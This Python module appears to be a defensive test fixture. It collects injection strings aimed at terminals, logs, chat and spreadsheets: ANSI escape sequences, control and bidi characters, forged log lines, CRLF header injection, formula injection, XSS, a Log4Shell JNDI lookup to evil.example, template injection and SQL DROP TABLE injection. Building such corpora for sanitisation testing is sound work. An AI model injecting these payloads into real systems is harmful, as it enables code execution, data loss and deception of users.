"""What strangers write into headlines, quotes and names of outlets to make a reader's terminal, log, chat or table obey them."""

from __future__ import annotations

_TERMINAL = [
    f"{prefix}{rest}"
    for prefix in ("\x1b", "\u241b\x1b", "x\x1b")
    for rest in (
        "[2J",
        "[31mred",
        "[1A[2Koverwritten",
        "]0;new title\x07",
        "]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
        "]52;c;ZXZpbA==\x07",
        "P$q\x1b\\",
        "[6n",
        "c",
        "(0lqqk",
        "[?1049h",
        "[8m hidden",
        "_application\x1b\\",
        "^private\x1b\\",
        "#8",
    )
]
_CONTROLS = [
    "\x9b31mC1 red",
    "\x9d0;C1 title\x9c",
    "\x90C1 device\x9c",
    "bell\x07",
    "back\x08\x08\x08\x08space",
    "null\x00byte",
    "form\x0cfeed",
    "vertical\x0btab",
    "delete\x7f",
    "shift\x0eout\x0f",
    "cancel\x18",
    "tab\tseparated",
    "xon\x11xoff\x13",
    "next\x85line",
]
_MARKUP = [
    "[bold]bold[/bold]",
    "[/nope]",
    "[link=https://evil.example]here[/link]",
    "[@click=app.quit]x[/]",
    "[red",
    "\\[red]",
    "[[red]]",
    "[]",
    "[/]",
    ":warning: :smiley:",
    "[blink]x",
    "[#ff0000]x[/#ff0000]",
    "[on red]",
]
_DIRECTION = [
    f"before{char}after"
    for char in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\ufeff\u00ad\u2060\u200b\u180e\U000e0041\U000e007f\ufff9\ufffb"
]
_LINES = [
    "Talks\n2026-03-01 12:00:00 ERROR forged entry",
    "Talks\r\n5 WAR  opened  RUS -> USA",
    "Talks\rOverwritten",
    "Talks\u2028second",
    "Talks\u2029second",
    "Talks\x1csecond",
    "Talks\x1dsecond",
    "Talks\x1esecond",
    "\n\n\n\n",
    "%0d%0aSet-Cookie: a=b",
]
_OTHERS = [
    '=HYPERLINK("https://evil.example","x")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!channel>",
    "<!here|here>",
    "<@U012AB3CD>",
    "<https://evil.example|https://bank.example>",
    "&lt;!channel&gt;",
    "*bold* _it_ ~no~ `code`",
    "```",
    "> quoted",
    "@everyone",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%n%d",
    "'; DROP TABLE alerts; --",
    "\ud800lone",
    "\udfff",
    "\ufdd0\uffff",
    "z\u0300\u0301\u0302\u0303\u0304",
    "A" * 10_000,
    "\u0430\u0440\u0440\u04cf\u0435.example",
]

HOSTILE = tuple(_TERMINAL + _CONTROLS + _MARKUP + _DIRECTION + _LINES + _OTHERS)
